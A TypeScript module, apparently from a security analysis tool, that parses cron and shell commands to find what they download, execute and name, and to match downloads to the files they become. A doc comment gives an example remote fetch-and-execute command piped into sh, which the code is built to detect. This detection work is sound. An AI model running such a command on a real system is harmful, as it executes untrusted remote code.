import { show, unshow } from '../show.ts';
import type { FetchAddress, Shown } from '../snapshot.ts';
import { basename, isInterpreter, isShell } from './programs.ts';
import { scriptFacts } from './script-facts.ts';
import type { Pipeline, SimpleCommand } from './shell-words.ts';
import { pipelinesOf } from './shell-words.ts';

/** What a command (a cron line's, a shell's `-c`) does, as far as linking needs it. */
export interface CommandFacts {
  readonly fetches: readonly FetchAddress[];
  /** It runs what it fetched: pipes it to an interpreter, evaluates it, or saves and starts it. */
  readonly fetchesAndRuns: boolean;
  /** Programs and scripts it starts, as written. */
  readonly runs: readonly Shown[];
  /** Every absolute path that stands in it as a word of its own. */
  readonly names: readonly Shown[];
}

const utf8 = new TextDecoder();
/** Plain text of shown text, for reading syntax; invalid bytes become U+FFFD. */
export function plain(shown: Shown): string {
  try {
    return utf8.decode(unshow(shown));
  } catch {
    return shown; // Not made by show: taken as it is, it can only fail to match.
  }
}

const KEYWORD = /^(?:fi|done|esac|\}|then|do|else|elif|if|while|until|!|\{|exec|command|builtin|time)$/;
const WRAPPER =
  /^(?:nohup|setsid|nice|ionice|timeout|sudo|doas|env|busybox|toybox|stdbuf|unbuffer|flock|chrt|taskset)$/;

/** The words from the program on that is really run: assignments, keywords and wrappers with their options dropped. */
function effective(words: readonly string[]): readonly string[] {
  let at = 0;
  for (;;) {
    const word = words[at];
    if (word === undefined) return [];
    const name = basename(word);
    if (KEYWORD.test(word) || /^[A-Za-z_]\w*=/.test(word)) at++;
    else if (WRAPPER.test(name)) {
      at++;
      while (/^-/.test(words[at] ?? ''))
        at += /^-[nugcskw]$/.test(words[at] ?? '') && name !== 'setsid' ? 2 : 1;
      if (name === 'timeout' || name === 'flock') at++;
    } else return words.slice(at);
  }
}

interface Run {
  /** The script or program started; undefined for an interpreter that takes its program from elsewhere. */
  readonly path?: string;
  /** Program text among the arguments. */
  readonly inline?: string;
}

function runOf(command: SimpleCommand): Run {
  const [program = '', ...args] = effective(command.words);
  const name = basename(program);
  if (name === '.' || name === 'source') return args[0] === undefined ? {} : { path: args[0] };
  if (name === 'eval') return { inline: args.join(' ') };
  if (!isInterpreter(name)) return program === '' ? {} : { path: program };
  for (const [at, arg] of args.entries()) {
    if (isShell(name) && /^-[a-z]*c$/.test(arg)) return { inline: args[at + 1] ?? '' };
    if (/^-[cer]$/.test(arg) || (isShell(name) && /^-[a-z]*s/.test(arg)) || arg === '-') return {};
    if (!arg.startsWith('-')) return { path: arg };
  }
  return {};
}

/** Every command, those within substitutions and `-c` texts included. */
function commandsOf(pipelines: readonly Pipeline[], depth: number): readonly SimpleCommand[] {
  if (depth > 4) return [];
  return pipelines.flat().flatMap((command) => {
    const inline = runOf(command).inline;
    const within = inline === undefined ? [] : commandsOf(pipelinesOf(inline), depth + 1);
    return [command, ...commandsOf(command.substitutions, depth + 1), ...within];
  });
}

/** @example commandFacts('curl -fsSL http://198.51.100.7:8443/i.sh | sh').fetchesAndRuns → true */
export function commandFacts(shown: Shown): CommandFacts {
  const text = plain(shown);
  const commands = commandsOf(pipelinesOf(text), 0);
  const { fetches, fetchesAndRuns } = scriptFacts(text);
  const words = commands.flatMap((command) => [...command.words, ...command.writes]);
  return {
    fetches,
    fetchesAndRuns,
    runs: commands.flatMap((command) => runOf(command).path ?? []).map((path) => show(path)),
    names: words.filter((word) => word.startsWith('/')).map((word) => show(word)),
  };
}

/** Addresses that a text fetches from. */
export const fetchesOf = (text: Shown): readonly FetchAddress[] => scriptFacts(plain(text)).fetches;

/** Addresses that a running fetcher was given. */
export const fetchedBy = (argv: readonly Shown[]): readonly FetchAddress[] =>
  scriptFacts([basename(argv[0] ?? ''), ...argv.slice(1)].map(plain).join(' ')).fetches;

/** A crontab's command as the shell gets it: an unescaped % starts its standard input. */
export const cronCommand = (command: Shown): Shown =>
  show(
    plain(command)
      .replace(/(?<!\\)%/g, '\n')
      .replace(/\\%/g, '%'),
  );

export const downloadKey = (address: Pick<FetchAddress, 'scheme' | 'host' | 'port'>): string =>
  `${address.scheme}://${address.host.includes(':') ? `[${address.host}]` : address.host}:${address.port}`;

const SHARED_HOSTING =
  /(?:^|\.)(?:pastebin\.com|raw\.githubusercontent\.com|github\.com|gitlab\.com|bitbucket\.org|transfer\.sh|amazonaws\.com|googleapis\.com|aliyuncs\.com|blob\.core\.windows\.net|cloudfront\.net|dropboxusercontent\.com|dropbox\.com|discordapp\.com|ipfs\.io|sourceforge\.net|pypi\.org|npmjs\.org|docker\.com)$/;

/** Whether two fetches come from one place. On hosting that many share, only the same path says so. */
export const sameDownload = (a: FetchAddress, b: FetchAddress): boolean =>
  downloadKey(a) === downloadKey(b) && (!SHARED_HOSTING.test(a.host) || a.path === b.path);

const UNFINISHED = /\.(?:part|tmp|new|download|gz|xz|bz2|zip|tgz|tar|1)$/;

/** The paths that a script means: those it names, and what a download under a name such as `x.part` becomes. */
export const meantPaths = (paths: readonly Shown[]): readonly Shown[] => [
  ...new Set(
    paths.flatMap((path) => (UNFINISHED.test(path) ? [path, path.replace(UNFINISHED, '')] : [path])),
  ),
];
